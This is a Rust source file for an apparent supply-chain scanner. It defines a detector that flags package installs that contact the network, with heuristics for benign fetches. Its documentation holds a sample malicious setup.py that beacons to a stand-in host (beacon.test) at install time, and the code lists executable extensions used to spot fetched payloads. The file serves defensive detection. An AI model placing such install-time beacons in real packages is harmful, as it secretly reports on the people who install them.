//! The installation talks to the network.

use bulkhead_core::{Confidence, FindingContext, Severity};

use super::code::{Rule, doing, own_address, quoted, say};
use super::drop_service;
use crate::archive::Archive;
use crate::behaviour::{Ability, Behaviour, Sources};
use crate::detector::Meta;
use crate::findings::Findings;

const META: Meta = Meta {
    id: "install-network",
    title: "the installation talks to the network",
    severity: Severity::High,
    confidence: Confidence::High,
    doc: "\
Building or installing a package needs no network of its own: the installer fetches dependencies. A `setup.py` or build hook that opens a connection
reports who installs it, or fetches what the release does not show.

```recipe bad
archive demo-1.0.tar.gz
--- demo-1.0/setup.py
import urllib.request
from setuptools import setup
urllib.request.urlopen('https://beacon.test/installed')
setup(name='demo')
```

```recipe good
archive demo-1.0.tar.gz
--- demo-1.0/setup.py
from setuptools import setup
setup(name='demo', url='https://demo.example/')
```

What to do: refuse the release; if it is your own, read the line that is shown.
",
};

/// See its `META`.
pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };

fn check(archive: &Archive, findings: &mut Findings) {
    for behaviour in doing(archive, Ability::Network) {
        if behaviour.context == FindingContext::Install && !is_local(behaviour) {
            let (weight, what) = if fetches_data(archive, behaviour) {
                ((Severity::Medium, Confidence::Medium), "fetches a part of the package")
            } else {
                ((Severity::High, Confidence::High), "talks to the network")
            };
            say(findings, &META, behaviour, weight, format!("the installation {what}: {}", quoted(behaviour)));
        }
    }
}

/// Whether it only fetches: over TLS, from a host whose name is known, without a word about this machine, and what comes is
/// written or looked at, never run. Some builds get a style sheet or their own compiled parts that way. Whoever only wants to be
/// told leaves the answer alone.
pub(super) fn fetches_data(archive: &Archive, behaviour: &Behaviour) -> bool {
    let effect = &behaviour.effect;
    let detail = effect.detail.as_deref().unwrap_or_default();
    let told = Sources::SYSTEM
        .with(Sources::ENVIRONMENT)
        .with(Sources::CREDENTIAL)
        .with(Sources::PRIVATE)
        .with(Sources::DECODED)
        .with(Sources::BUILT);
    let here = |ability: Ability| {
        archive
            .code
            .behaviours
            .iter()
            .filter(move |other| other.effect.ability == ability && other.path == behaviour.path)
    };
    let fetch = here(Ability::Download).any(|other| other.effect.line == effect.line);
    let written =
        here(Ability::WriteFile).any(|other| other.unit == behaviour.unit && other.effect.from.any(Sources::NETWORK));
    let runs = here(Ability::Execute)
        .chain(here(Ability::Spawn))
        .chain(here(Ability::LoadNative))
        .any(|other| other.effect.from.any(Sources::NETWORK.with(Sources::WRITTEN)));
    let used = ["with ", "return ", " = "].iter().any(|word| {
        let call = effect.excerpt.find('(').unwrap_or(effect.excerpt.len());
        effect.excerpt[..call].contains(word)
    }) || here(Ability::WriteFile).any(|other| other.effect.line == effect.line);
    fetch
        && used
        && !runs
        && !effect.from.any(told)
        && named_host(detail)
        && !drop_service::is_box(detail)
        && !is_code(detail)
        && (written || own_address(archive, detail))
}

/// Whether the host is a name, known in whole, and asked over TLS.
fn named_host(detail: &str) -> bool {
    detail.split_once("https://").is_some_and(|(_, rest)| {
        let host = rest.split(['/', '?', '#', ' ']).next().unwrap_or_default();
        let named = host.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'));
        named
            && host.contains('.')
            && host.rsplit('.').next().is_some_and(|last| last.bytes().all(|b| b.is_ascii_alphabetic()))
    })
}

/// Whether what is fetched is there to be run.
fn is_code(detail: &str) -> bool {
    let path = detail.split(['?', '#', ' ']).next().unwrap_or(detail).to_ascii_lowercase();
    [".exe", ".py", ".sh", ".ps1", ".bat", ".vbs", ".msi", ".dll", ".scr", ".pyz"].iter().any(|end| path.ends_with(end))
        || detail.contains("githubusercontent.com")
}

fn is_local(behaviour: &Behaviour) -> bool {
    behaviour
        .effect
        .detail
        .as_deref()
        .map(|detail| detail.split_once("://").map_or(detail, |(_, rest)| rest))
        .is_some_and(|place| ["localhost", "127.0.0.1"].iter().any(|local| place.starts_with(local)))
}
